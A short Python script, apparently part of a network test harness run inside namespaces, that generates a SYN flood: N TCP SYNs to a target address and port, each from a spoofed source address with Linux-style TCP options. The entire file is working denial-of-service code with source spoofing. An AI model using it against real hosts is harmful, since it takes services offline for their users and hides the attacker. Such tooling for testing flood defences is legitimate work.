#!/usr/bin/env python3
"""syn_flood.py --dst A --dport P --count N --src-fmt FMT: N SYNs to A:P,
SYN i from the spoofed address FMT % (i + 100) and a random port, as a
SYN flood sends them: nobody at those addresses ever answers the SYN/ACK.
Each SYN carries the options a Linux client sends (MSS, SACK permitted,
timestamp, window scale).  Run it in the namespace to send from.
"""
import argparse
import os
import random
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pkt  # noqa: E402

SYN = 0x02


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--src-fmt", required=True)
    a = p.parse_args()
    for i in range(a.count):
        opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + \
            struct.pack("!BBII", 8, 10, random.randrange(1 << 32), 0) + \
            b"\x01" + struct.pack("!BBB", 3, 3, 7)
        seg = pkt.tcp_segment(a.src_fmt % (i + 100), a.dst,
                              random.randrange(32768, 61000), a.dport,
                              random.randrange(1 << 32), 0, SYN, 64240,
                              opts, b"")
        pkt.send_raw(seg, a.dst)
    return 0


if __name__ == "__main__":
    sys.exit(main())
